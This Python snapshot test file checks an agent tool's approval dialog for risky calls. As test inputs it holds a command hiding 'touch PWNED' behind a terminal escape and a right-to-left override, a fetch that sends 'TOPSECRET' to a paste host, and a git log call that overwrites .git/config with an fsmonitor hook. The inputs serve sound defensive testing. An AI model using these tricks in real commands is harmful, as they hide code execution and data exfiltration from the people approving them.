"""Snapshot of the approval modal when the preview has something to hide: a web_fetch host
approval (per-host buttons), and a command with an OSC payload (stand-ins highlighted) and a
tail left out (the "not shown ... press f" line), exec's offered prefix and scope, and a
saved rule that does not cover a call (the note). Deterministic: hand-made request, settled
screen (see tests/tui/settle.py). Update deliberately with
`pytest tests/tui/test_approval_snapshot.py --snapshot-update` and review the SVG."""

from __future__ import annotations

from textual.pilot import Pilot

from picobot_tui.core.visible import cap_text, visible
from tests.tui.app_support import make_app
from tests.tui.scenes import SESSION_KEY
from tests.tui.settle import settle, until


async def _fixed_session(pilot: Pilot) -> None:
    """The status bar shows the session id: once start-up has set it, use the scenes' fixed
    one."""
    await until(pilot, lambda: pilot.app.ready, "app loaded")
    pilot.app.sessions.key = SESSION_KEY
    pilot.app.status.session = SESSION_KEY.removeprefix("cli:")


async def _modal(pilot: Pilot) -> None:
    from picobot_tui.widgets.approval import ApprovalScreen

    await _fixed_session(pilot)
    command = "echo hello \x1b]0;x; touch PWNED; #\x07 && \u202eecho fine\n" + "".join(
        f"echo step {i}\n" for i in range(600)
    )
    full = visible(f"$ {command}\n(in /work, timeout 60 s)")
    shown, hidden = cap_text(full, 12, 20_000)
    await pilot.app.push_screen(
        ApprovalScreen("call_9", "exec", {"command": command}, shown, full=full, hidden=hidden)
    )
    await settle(pilot)


async def _host(pilot: Pilot) -> None:
    from picobot_tui.widgets.approval import ApprovalScreen

    await _fixed_session(pilot)
    url = "https://paste.example.net/upload?d=TOPSECRET"
    preview = f"GET {url}\n(host paste.example.net)"
    await pilot.app.push_screen(
        ApprovalScreen(
            "call_8",
            "web_fetch",
            {"url": url},
            preview,
            host="paste.example.net",
            workspace="/work",
        )
    )
    await settle(pilot)


async def _prefix(pilot: Pilot) -> None:
    from picobot_tui.widgets.approval import ApprovalScreen

    await _fixed_session(pilot)
    preview = "$ git status --short\n(in /work, timeout 60 s)"
    args = {"command": "git status --short"}
    await pilot.app.push_screen(
        ApprovalScreen("call_7", "exec", args, preview, prefix="git status", workspace="/work")
    )
    await settle(pilot)


async def _not_covered(pilot: Pilot) -> None:
    from picobot_tui.widgets.approval import ApprovalScreen

    await _fixed_session(pilot)
    command = "git log -1 --output=.git/config '--format=[core]%n fsmonitor = touch PWNED'"
    preview = f"$ {command}\n(in /work, timeout 60 s)"
    note = (
        "not covered by exec(git log:*): --output=.git/config: writes the output to the file "
        "it names (writes a file)"
    )
    await pilot.app.push_screen(
        ApprovalScreen(
            "call_6",
            "exec",
            {"command": command},
            preview,
            rule=f"exec({command})",
            note=note,
            workspace="/work",
        )
    )
    await settle(pilot)


def test_approval_modal_offers_the_command_prefix(snap_compare, settings):
    """exec's "always" names the exact prefix it saves (issue 15, item 15)."""
    assert snap_compare(make_app(settings), terminal_size=(120, 36), run_before=_prefix)


def test_approval_modal_says_why_a_saved_rule_does_not_cover_a_call(snap_compare, settings):
    """A rule matched the first words, an option asks: the note says which; "always" is the
    exact command, here or everywhere (issue 21, point 2)."""
    assert snap_compare(make_app(settings), terminal_size=(120, 36), run_before=_not_covered)


def test_approval_modal_with_escapes_and_a_hidden_tail(snap_compare, settings):
    assert snap_compare(make_app(settings), terminal_size=(120, 36), run_before=_modal)


def test_approval_modal_for_a_host(snap_compare, settings):
    assert snap_compare(make_app(settings), terminal_size=(120, 36), run_before=_host)
